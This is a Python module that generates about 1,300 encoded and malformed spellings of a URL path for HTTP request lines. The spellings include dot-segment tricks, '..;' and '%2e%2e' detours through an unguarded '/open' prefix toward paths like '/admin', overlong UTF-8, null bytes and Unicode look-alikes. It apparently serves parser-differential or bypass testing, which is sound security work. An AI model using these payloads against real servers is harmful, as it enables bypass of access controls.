"""About 1,300 ways to write a path in a request line, which programs read differently."""

from collections.abc import Iterable, Iterator
from urllib.parse import quote

# Nothing below these is guarded, so that a detour can begin here.
OPEN = "/open"

_AFTER = (
    *("/", "//", "/.", "/./", "/..", "/x/..", "/x/../", "//x", "/%2e", "/%2e/", "/%2e%2e/admin"),
    *(
        ".",
        "..",
        "...",
        "./",
        "%2e",
        ".css",
        ".json",
        ".php",
        ".PHP",
        ".php/x",
        ".html",
        ".php.",
        "~",
    ),
    *(
        ";",
        ";x",
        ";x=/open",
        "/;x",
        ";/x",
        "%3bx",
        ",x",
        "!",
        "@x",
        ":x",
        "::$DATA",
        "=",
        "&x",
        "+",
    ),
    *(" ", "%20", "\t", "%09", "%0a", "%0d", "%0d%0a", "%00", "%00.css", "%00/x", "%7f", "\x7f"),
    *("?", "?x", "?/../open/a.css", "#", "#x", "%3f", "%3fx", "%23", "%23x", "?x#y", "#/../open"),
    *("\\", "\\x", "%5c", "%5cx", "%2f", "%2F", "%2fx", "%252f", "%25", "%", "%2", "%zz", "%u002f"),
    *(
        "%c0%af",
        "%c0%ae",
        "%e0%80%af",
        "%ef%bc%8f",
        "%ef%bc%8fx",
        "%e2%88%95",
        "%ff",
        "%c3",
        "\xe9",
    ),
    *("/index.php", "/index.php/x", "/INDEX.PHP", "/index.html", "/index", "/x.php/y", "/x/y/z"),
    *("/../admin", "/../admin/", "/%2e%2e/%61dmin/", "/..%2fadmin", "/..;/admin", "/...", "*", "|"),
)
_BEFORE = (
    *("/.", "/./.", "/x/..", f"{OPEN}/..", f"{OPEN}/../.", f"{OPEN}/x/../..", f"{OPEN}//.."),
    *(f"{OPEN}/%2e%2e", f"{OPEN}/.%2e", f"{OPEN}/%2E.", f"{OPEN}/%252e%252e", f"{OPEN}/..;"),
    *(f"{OPEN}/..;x", f"{OPEN};/..", f"{OPEN};x/..", f"{OPEN}..", f"{OPEN}.", f"{OPEN}%20/.."),
    *(f"{OPEN}/..%20", f"{OPEN}/...", f"{OPEN}/.%00.", f"{OPEN}/..%00", f"{OPEN}%00/.."),
    *(
        f"{OPEN}\\..",
        f"{OPEN}/..\\",
        f"{OPEN}%5c..",
        f"{OPEN}/..%5c",
        f"{OPEN}%2f..",
        f"{OPEN}/..%2f",
    ),
    *(
        f"{OPEN}/%c0%ae%c0%ae",
        f"{OPEN}/%ef%bc%8e%ef%bc%8e",
        f"{OPEN}/%e2%80%a5",
        f"{OPEN}/%u002e%u002e",
    ),
    *(f"{OPEN}/a.css/..", f"{OPEN}/a.css/../..", f"{OPEN}?/..", f"{OPEN}#/..", f"{OPEN}/..%23"),
    *(
        "/",
        "//",
        "///",
        "/x//..",
        "//x",
        "//x/..",
        "/;",
        "/;x",
        "/.;",
        "/%2e",
        "/%2f",
        "/%5c",
        "/\\",
    ),
    *(
        "\\",
        "/\t",
        "/ ",
        "/%20",
        "/%00",
        "/%0a",
        "/%09",
        "/%ef%bc%8f",
        "/%c0%af",
        "*",
        " ",
        "x",
        "?",
    ),
    *(
        "http://x",
        "HTTP://x:80",
        "http://x/",
        f"http://x{OPEN}/..",
        "http://a@x",
        "http:",
        "http://",
    ),
    *(
        "/index.php",
        f"{OPEN}/a.php",
        f"{OPEN}/",
        "/~",
        "/x",
        "/cgi-bin/php",
        "/admin/..",
        "/Admin/..",
    ),
)
_BETWEEN = ("//", "/./", "/x/../", "%2f", "%2F", "\\", "%5c", "/%2e/", ";/", ";x/", "/.//", "%252f")


def spellings(paths: Iterable[str]) -> list[bytes]:
    """Each of ``paths`` in all these spellings, as targets of a request line."""
    found = dict.fromkeys(way.encode("latin-1") for path in paths for way in _ways(path))
    return list(found)


def _ways(path: str) -> Iterator[str]:
    yield from (path, path[1:], path.upper(), path.title(), path.swapcase(), path.capitalize())
    for after in _AFTER:
        yield path + after
        yield path.upper() + after
    for before in _BEFORE:
        yield before + path
        yield before + path[1:]
    for between in _BETWEEN:
        yield "/" + path[1:].replace("/", between)
    yield from _letters(path)


def _letters(path: str) -> Iterator[str]:
    """One letter or all letters: escaped, escaped twice, in full width, or overlong."""
    for at, letter in enumerate(path):
        if letter != "/":
            escape = f"%{ord(letter):02x}"
            overlong = f"%{0xC0 | ord(letter) >> 6:x}%{0x80 | ord(letter) & 0x3F:x}"
            wide = quote(chr(ord(letter) + 0xFEE0))
            for written in (escape, escape.upper(), f"%25{escape[1:]}", overlong, wide):
                yield path[:at] + written + path[at + 1 :]
    everything = "".join(letter if letter == "/" else f"%{ord(letter):02x}" for letter in path)
    yield from (everything, everything.upper(), everything + "/", everything + "/%78")
    # Some programs read these as s, k and i, in upper or lower case.
    for letter, odd in (("s", "\u017f"), ("i", "\u0131"), ("i", "\u0130"), ("k", "\u212a")):
        yield path.replace(letter, quote(odd))
